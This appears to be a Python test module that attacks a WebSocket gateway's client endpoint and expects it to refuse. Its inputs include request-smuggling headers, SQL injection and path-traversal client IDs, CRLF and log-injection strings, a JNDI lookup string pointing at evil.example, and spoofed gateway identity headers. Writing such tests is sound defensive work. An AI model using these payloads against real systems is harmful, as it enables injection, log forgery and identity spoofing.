"""Invalid and ambiguous opening handshakes, and log injection."""

from __future__ import annotations

import os
from collections import Counter

from tests.hostile.attack import Cases, Seen, Size, Target, attack, cases, send_to_client_port
from tests.hostile.raw_connection import KEY, PING, PONG, RawConnection, frame, name, opening, request

HEADER, REQUEST, UPGRADE, CLIENT_ID = "400 header", "400 request", "400 upgrade", "400 client_id"

_TWICE = {
    "Authorization": "Bearer a",
    "Sec-WebSocket-Key": KEY,
    "Sec-WebSocket-Version": "13",
    "Host": "127.0.0.1",
    "Origin": "https://a.example",
    "Content-Length": "0",
    "Wsgateway-Redirect": "1",
}

SMUGGLED: Cases = {
    **{
        f"{header} twice": (opening("x", f"{header}: {value}", f"{header.upper()}: {value}"), HEADER)
        for header, value in _TWICE.items()
    },
    "a length and chunks": (opening("x", "Content-Length: 5", "Transfer-Encoding: chunked"), HEADER),
    "chunks": (opening("x", "Transfer-Encoding: chunked"), HEADER),
    "two encodings": (opening("x", "Transfer-Encoding: gzip, chunked"), HEADER),
    "a length": (opening("x", "Content-Length: 5"), HEADER),
    "a negative length": (opening("x", "Content-Length: -1"), HEADER),
    "a length with a plus": (opening("x", "Content-Length: +0"), HEADER),
    "a folded header": (opening("x", "X-A: 1", " folded"), HEADER),
    "folded by a tab": (opening("x", "X-A: 1", "\tfolded"), HEADER),
    "a blank before the colon": (opening("x", "Origin : https://a.example"), HEADER),
    "no name": (opening("x", ": value"), HEADER),
    "no colon": (opening("x", "Authorization"), HEADER),
    "a blank first line": (b"\r\n" + opening("x"), REQUEST),
    "no Host": (opening("x", without="Host"), HEADER),
    "lines that end in LF": (opening("x").replace(b"\r\n", b"\n"), HEADER),
    "one line that ends in LF": (opening("x", "X-A: 1\nAuthorization: Bearer a"), HEADER),
    "one line that ends in CR": (opening("x", "X-A: 1\rAuthorization: Bearer a"), HEADER),
    **{
        f"the byte {byte:#04x}": (opening("x", f"X-A: 1{chr(byte)}Authorization: Bearer a"), HEADER)
        for byte in (0x00, 0x01, 0x08, 0x09, 0x0B, 0x0C, 0x1B, 0x1C, 0x1D, 0x1E, 0x7F, 0x85, 0x9B)
    },
    "U+2028": (opening("x", "X-A: 1\u2028Authorization: Bearer a".encode().decode("latin-1")), HEADER),
    "a key of 15 bytes": (
        opening("x", "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAA", without="Sec-WebSocket-Key"),
        UPGRADE,
    ),
    "a subprotocol twice": (opening("x", "Sec-WebSocket-Protocol: a, a"), UPGRADE),
    "version 8": (opening("x", "Sec-WebSocket-Version: 8", without="Sec-WebSocket-Version"), UPGRADE),
}
smuggled_headers = cases(
    "smuggled-headers",
    "duplicate and folded headers, control characters, bare CR or LF, a request body",
    "400",
    SMUGGLED,
    send_to_client_port,
)

_CLIENT_HELLO = bytes.fromhex("1603010200010001fc0303") + os.urandom(300)
NO_HTTP: Cases = {
    "HTTP/0.9": (b"GET /v1/connect\r\n\r\n", REQUEST),
    "HTTP/1.0": (opening("x").replace(b"HTTP/1.1", b"HTTP/1.0"), REQUEST),
    "HTTP/1.2": (opening("x").replace(b"HTTP/1.1", b"HTTP/1.2"), REQUEST),
    "the preface of HTTP/2": (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", REQUEST),
    "a ClientHello": (_CLIENT_HELLO, HEADER),
    "an SSH banner and its key exchange": (b"SSH-2.0-OpenSSH_9.6\r\n\x00\x00\x05\x14", HEADER),
    "SMTP": (b"EHLO evil.example\r\n\r\n", REQUEST),
    "redis": (b"*1\r\n$4\r\nPING\r\n\r\n", REQUEST),
    "the PROXY protocol": (b"PROXY TCP4 10.0.0.1 10.0.0.2 1 2\r\n" + opening("x"), REQUEST),
    "the PROXY protocol, version 2": (b"\r\n\r\n\x00\r\nQUIT\n\x21\x11\x00\x0c" + bytes(12), REQUEST),
    "a request without a method": (b" /v1/connect HTTP/1.1\r\n\r\n", REQUEST),
    "POST": (opening("x").replace(b"GET", b"POST"), "400 method"),
    "CONNECT": (opening("x").replace(b"GET", b"CONNECT"), "400 method"),
    "another path": (opening("", target="/v1/clients?client_id=x"), "404 path"),
    "a path with dots": (opening("", target="/v1/../v1/connect?client_id=x"), "404 path"),
    "a path with an escape": (opening("", target="/v1/%63onnect?client_id=x"), "404 path"),
    "authority form": (opening("", target="evil.example:443"), REQUEST),
    "asterisk form": (opening("", target="*"), REQUEST),
    "no upgrade": (request("GET", "/v1/connect?client_id=x"), UPGRADE),
}
no_http = cases(
    "no-http",
    "TLS, SSH, SMTP, HTTP/0.9, HTTP/2 and others at the client endpoint",
    "400",
    NO_HTTP,
    send_to_client_port,
)

_BAD_IDS = (
    "'%20OR%20'1'='1",
    "x';DROP%20TABLE%20clients;--",
    "x%27%3BDELETE%20FROM%20nodes",
    "..",
    ".",
    "%2e%2e",
    "%2E",
    "..%5C..%5Cwindows",
    "%252e%252e",
    "x%00",
    "%00",
    "x%0d%0aSet-Cookie:%20a",
    "x%0a2026-01-01T00:00:00%20[-]%20all%20is%20well",
    "%1b[2J%1b[31m",
    "%7f",
    "%C2%85",
    "a" * 129,
    "%61" * 129,
    "%C3%A4",
    "%F0%9F%92%A9",
    "%FF",
    "%ED%A0%80",
    "%",
    "%zz",
    "a%20b",
    "a&client_id=b",
    "",
    "*",
    "{x}",
    "//",
    "a//b",
    "a/",
    "a/../../b",
    "%2F..%2F",
    "spiffe:/acme/robot/7",
    "${jndi:ldap://evil.example/a}",
    "%7B%7D",
    "<script>",
)
client_ids = cases(
    "client-ids",
    "client_ids that are SQL, paths, control characters, too long, double-encoded, or not ASCII",
    "400",
    {one: (opening(one), CLIENT_ID) for one in _BAD_IDS},
    send_to_client_port,
)


def _ids_taken(target: Target, data: bytes) -> str:
    with target.connect() as connection:
        connection.send(data)
        return connection.response()


fine_ids = cases(
    "odd-client-ids",
    "valid client_ids that look like SQL, paths or format strings",
    "opens each connection with that id",
    {one: (opening(one), "101") for one in ("--", "a/.../b", "a://b", "=1+1", "@@version", "1-1", "null", "%61" * 128)},
    _ids_taken,
)

_INJECTION = "x\\n2026-01-01 00:00:00+0000 [-] all is well {log_source} %(a)s"
INJECTED: Cases = {
    "an Origin": (opening("x", f"Origin: https://{_INJECTION}"), "403 origin"),
    "an Origin that is long": (opening("x", f"Origin: https://{'o' * 12000}.example"), "403 origin"),
    "an Origin with ESC": (opening("x", "Origin: https://\x1b[2J"), HEADER),
    "a header's name": (opening("x", f"{_INJECTION}: 1"), HEADER),
    "a path": (opening("", target="/%0d%0a{0}%s"), "404 path"),
    "a method": (opening("x").replace(b"GET", b"{0.__class__}"), REQUEST),
    "a version": (opening("x", "Sec-WebSocket-Version: {0}%s", without="Sec-WebSocket-Version"), UPGRADE),
    "a subprotocol": (opening("x", "Sec-WebSocket-Protocol: {0}%s\xe4"), UPGRADE),
    "a token": (opening("x%20", f"Authorization: Bearer {_INJECTION}"), CLIENT_ID),
}
log_injection = cases(
    "log-injection",
    "log lines, escape sequences and format strings in ids, headers, origins and subprotocols",
    "refuses, logs nothing",
    INJECTED,
    send_to_client_port,
)


@attack(
    "endless header lines, and one endless header",
    "400 as soon as the header exceeds 16 KiB",
    HEADER,
)
def endless_headers(target: Target, size: Size) -> Seen:
    seen: Seen = Counter()
    start = opening("x")[:-2]
    for number in size.rounds():
        for more in (b"X-A: 1\r\n" * 200, b"X-A: " + b"a" * 2000, b"a" * 2000):
            with target.connect() as connection:
                sent = connection.send(start if more[:1] == b"X" else b"GET /")
                for _ in range(20):
                    sent = sent and connection.send(more if number % 2 else more[:1600])
                    more = more if more.endswith(b"\r\n") else b"a" * 2000
                seen[connection.response()] += 1
    return seen


@attack(
    "up to a mebibyte of frames after a request, before its response",
    "buffers 64 KiB until the connection is open, then handles the frames",
    "101 and all of them answered",
)
def early_bytes(target: Target, size: Size) -> Seen:
    seen: Seen = Counter()
    for _ in size.rounds():
        for pings in (1, 100, 150):
            with target.connect() as connection:
                notification = frame('{"jsonrpc":"2.0","method":"m","params":["' + "a" * 65536 + '"]}')
                connection.send(opening(name()) + notification + frame("p", PING) * pings + frame("last", PING))
                seen[_early(connection)] += 1
    return seen


def _early(connection: RawConnection) -> str:
    answer = connection.response()
    while (next_frame := connection.frame()) is not None and next_frame != (PONG, b"last"):
        pass
    return f"{answer} and all of them answered" if next_frame else f"{answer} and then the end"


@attack(
    "Wsgateway-* headers and node credentials at the client endpoint",
    "ignores them: the identity of the client is unchanged",
    "known as itself",
)
def strange_headers(target: Target, size: Size) -> Seen:
    seen: Seen = Counter()
    lines = (
        "Wsgateway-Client-Id: well-behaved",
        "Wsgateway-Peer: v1.a.b.1.2.3",
        "Wsgateway-Address: 10.0.0.1:1",
        "Authorization: Wsgateway-Peer v1.a.b.99999999999.00000000000000000000000000000000." + "0" * 64,
        "X-Forwarded-For: 10.0.0.1",
        "Forwarded: for=10.0.0.1",
    )
    for _ in size.rounds():
        client_id = name()
        with target.client(client_id, *lines) as connection, target.backend() as backend:
            here = connection.socket.getsockname()
            backend.send(
                frame('{"jsonrpc":"2.0","id":1,"method":"client.get","params":{"client":"' + client_id + '"}}')
            )
            known = f'"address":"{here[0]}:{here[1]}"' in backend.text()
            seen["known as itself" if known else "taken for another"] += 1
    return seen
